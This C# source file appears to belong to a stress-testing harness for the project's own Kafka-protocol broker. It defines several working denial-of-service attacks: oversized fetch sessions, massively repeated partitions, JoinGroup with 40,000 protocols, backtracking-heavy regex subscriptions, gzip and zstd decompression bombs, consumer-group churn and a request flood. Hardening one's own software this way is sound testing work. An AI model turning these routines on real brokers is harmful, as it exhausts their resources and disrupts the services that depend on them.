using System.Collections.Concurrent;
using CrashStreams.Broker.Attacks.Wire;
using CrashStreams.Protocol.Messages;
using CrashStreams.Protocol.Records;
using CrashStreams.Protocol.Wire;

namespace CrashStreams.Broker.Attacks.Attacks;

/// <summary>A fetch session with as many partitions as a request may name, which are then forgotten from the last to the first.</summary>
internal sealed class ForgottenInReverse(int partitions = 20_000) : Attack
{
    public override string Name => "session";

    public override string Description => $"a fetch session of {partitions} partitions, forgotten in reverse";

    public override async Task RoundAsync(Target target, CancellationToken stop)
    {
        using var client = await AttackClient.ConnectAsync(target, stop);
        var indexes = Enumerable.Range(0, partitions).ToList();
        var opened = await client.AskAsync<FetchRequest, FetchResponse>(new()
        {
            MaxWaitMs = 1,
            SessionEpoch = 0,
            Topics = [new() { Topic = Target.Narrow, Partitions = indexes.ConvertAll(index => new FetchRequest.FetchPartition { Partition = index }) }],
        }, version: 11, stop);
        indexes.Reverse();
        await client.AskAsync<FetchRequest, FetchResponse>(new()
        {
            MaxWaitMs = 1,
            SessionId = opened.SessionId,
            SessionEpoch = opened.SessionId == 0 ? -1 : 1,
            ForgottenTopicsData = [new() { Topic = Target.Narrow, Partitions = indexes }],
        }, version: 11, stop);
    }
}

/// <summary>One partition, named as often as a request can.</summary>
internal sealed class RepeatedPartition(int times = 100_000) : Attack
{
    public override string Name => "repeated";

    public override string Description => $"one partition named {times} times: ListOffsets by time, Fetch, DeleteRecords";

    public override async Task RoundAsync(Target target, CancellationToken stop)
    {
        using var client = await AttackClient.ConnectAsync(target, stop);
        await client.AskAsync<ListOffsetsRequest, ListOffsetsResponse>(new()
        {
            Topics = [new() { Name = Target.Narrow, Partitions = Repeat(() => new ListOffsetsRequest.ListOffsetsPartition { Timestamp = 1 }) }],
        }, stop: stop);
        await client.AskAsync<FetchRequest, FetchResponse>(new()
        {
            MaxWaitMs = 1,
            Topics = [new() { Topic = Target.Narrow, Partitions = Repeat(() => new FetchRequest.FetchPartition { PartitionMaxBytes = 1 }) }],
        }, version: 11, stop);
        await client.AskAsync<DeleteRecordsRequest, DeleteRecordsResponse>(new()
        {
            Topics = [new() { Name = Target.Narrow, Partitions = Repeat(() => new DeleteRecordsRequest.DeleteRecordsPartition()) }],
        }, stop: stop);
    }

    private List<T> Repeat<T>(Func<T> create) => [.. Enumerable.Range(0, times).Select(_ => create())];
}

/// <summary>A member that offers tens of thousands of protocols.</summary>
internal sealed class ManyProtocols(int protocols = 40_000) : Attack
{
    public override string Name => "protocols";

    public override string Description => $"JoinGroup with {protocols} protocols";

    public override async Task RoundAsync(Target target, CancellationToken stop)
    {
        using var client = await AttackClient.ConnectAsync(target, stop);
        await client.AskAsync<JoinGroupRequest, JoinGroupResponse>(Request($"g{Random.Shared.Next(100)}"), version: 3, stop);
    }

    public JoinGroupRequest Request(string group) => new()
    {
        GroupId = group,
        SessionTimeoutMs = 10_000,
        RebalanceTimeoutMs = 10_000,
        ProtocolType = "consumer",
        Protocols = [.. Enumerable.Range(0, protocols).Select(i => new JoinGroupRequest.JoinGroupRequestProtocol { Name = $"p{i}" })],
    };
}

/// <summary>Patterns that a linear engine takes long for.</summary>
internal sealed class SlowPatterns : Attack
{
    public static readonly string[] Patterns =
    [
        "((a{1,30}){1,30}){1,30}", "(a|b)*a(a|b){200}", "(a|b)*a(a|b){1000}", string.Concat(Enumerable.Repeat(".*a", 300)), "(.{1,100}){1,100}", "(\\w|a){1,300}\\d", "(.*.*.*.*.*.*)*a{50}b",
        "[ab]*[ab]{99}[ab]{99}[ab]{99}c",
    ];

    public override string Name => "patterns";

    public override string Description => "subscriptions with regular expressions that are large when written out";

    public override async Task RoundAsync(Target target, CancellationToken stop)
    {
        using var client = await AttackClient.ConnectAsync(target, stop);
        foreach (var pattern in Patterns)
            await client.AskAsync<ConsumerGroupHeartbeatRequest, ConsumerGroupHeartbeatResponse>(new()
            {
                GroupId = $"p{Random.Shared.Next(1000)}",
                MemberId = $"m{Random.Shared.Next(1000)}",
                RebalanceTimeoutMs = 1000,
                SubscribedTopicRegex = pattern,
                TopicPartitions = [],
            }, stop: stop);
    }
}

/// <summary>Batches of a few kilobytes that become as much as a topic takes, hundreds in a request.</summary>
internal sealed class Bombs(int batches = 200) : Attack
{
    private const int RecordBytes = 15_000_000; // 16 MiB is what a topic takes

    public override string Name => "bombs";

    public override string Description => $"Produce with {batches} gzip batches of {RecordBytes / 1_000_000} MB each when decompressed, over the widest topic; zstd is tried with 250 MB";

    public override async Task RoundAsync(Target target, CancellationToken stop)
    {
        using var client = await AttackClient.ConnectAsync(target, stop);
        foreach (var (codec, bytes) in new[] { (CompressionCodec.Gzip, RecordBytes), (CompressionCodec.Zstd, 250_000_000) })
            await client.AskAsync<ProduceRequest, ProduceResponse>(Request(Batches.Of(codec, bytes), target.WidePartitions), version: 9, stop);
    }

    public ProduceRequest Request(byte[] batch, int partitions) => new()
    {
        Acks = -1,
        TimeoutMs = 10_000,
        TopicData = [new() { Name = Target.Wide, PartitionData = [.. Enumerable.Range(0, batches).Select(i => new ProduceRequest.PartitionProduceData { Index = i % partitions, Records = new RecordsField(batch) })] }],
    };

    /// <summary>Made once: that takes longer than to send them.</summary>
    private static class Batches
    {
        private static readonly ConcurrentDictionary<(CompressionCodec, int), Lazy<byte[]>> s_made = new();

        public static byte[] Of(CompressionCodec codec, int bytes) => s_made.GetOrAdd((codec, bytes), of => new Lazy<byte[]>(() =>
        {
            using var builder = new RecordBatchBuilder(new RecordBatchHeader { Codec = of.Item1 });
            builder.Append(TimeProvider.System.GetUtcNow().ToUnixTimeMilliseconds(), "k"u8.ToArray(), new byte[of.Item2]);
            return builder.Build().ToArray();
        })).Value;
    }
}

/// <summary>A crowd that joins and leaves one group, each member interested in the wide topic.</summary>
internal sealed class Crowd : Attack
{
    public override string Name => "crowd";

    public override string Description => "members of the consumer protocol that come and go, subscribed to the widest topic";

    public override async Task RoundAsync(Target target, CancellationToken stop)
    {
        using var client = await AttackClient.ConnectAsync(target, stop);
        for (var i = 0; i < 50; i++)
            await client.AskAsync<ConsumerGroupHeartbeatRequest, ConsumerGroupHeartbeatResponse>(new()
            {
                GroupId = "crowd",
                MemberId = $"m{Random.Shared.Next(1500)}",
                MemberEpoch = i % 5 == 4 ? -1 : 0,
                RebalanceTimeoutMs = 1000,
                SubscribedTopicNames = i % 2 == 0 ? [Target.Wide] : [Target.Wide, Target.Narrow],
                TopicPartitions = [],
            }, stop: stop);
    }
}

/// <summary>Small requests, as many as the connections carry; all answers are read.</summary>
internal sealed class Flood(int inARow = 5000) : Attack
{
    public override string Name => "flood";

    public override string Description => $"{inARow} small requests in a row on each of 20 connections, all answers read, again and again";

    public override int Clients => 20;

    public override async Task RoundAsync(Target target, CancellationToken stop)
    {
        using var client = await AttackClient.ConnectAsync(target, stop);
        var frames = new byte[][]
        {
            client.Frame(new ListOffsetsRequest { Topics = [new() { Name = Target.Narrow, Partitions = [new() { Timestamp = -1 }] }] }),
            client.Frame(new FindCoordinatorRequest { CoordinatorKeys = ["g"] }),
            client.Frame(new ApiVersionsRequest { ClientSoftwareName = "flood", ClientSoftwareVersion = "1" }),
        };
        byte[] row = [.. Enumerable.Range(0, inARow).SelectMany(i => frames[i % frames.Length])];
        var reading = ReadAsync();
        while (!reading.IsCompleted)
            await client.SendBytesAsync(row, stop);
        await reading;

        async Task ReadAsync()
        {
            while (true)
                await client.ReadFrameAsync(stop);
        }
    }
}
